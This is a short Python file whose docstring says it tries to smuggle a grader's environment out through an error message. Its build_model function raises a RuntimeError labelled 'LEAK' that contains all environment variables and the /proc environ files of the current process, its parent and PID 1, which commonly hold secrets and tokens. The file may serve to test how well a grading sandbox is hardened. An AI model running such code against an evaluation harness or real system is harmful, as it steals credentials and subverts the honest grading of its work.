"""Tries to smuggle the grader's environment out through an error message."""
import os
from pathlib import Path


def _environments():
    found = [repr(dict(os.environ))]
    for pid in ("self", str(os.getppid()), "1"):
        try:
            found.append(Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace"))
        except OSError as error:
            found.append(f"{pid}: {error}")
    return " | ".join(found)


def build_model():
    raise RuntimeError("LEAK " + _environments())
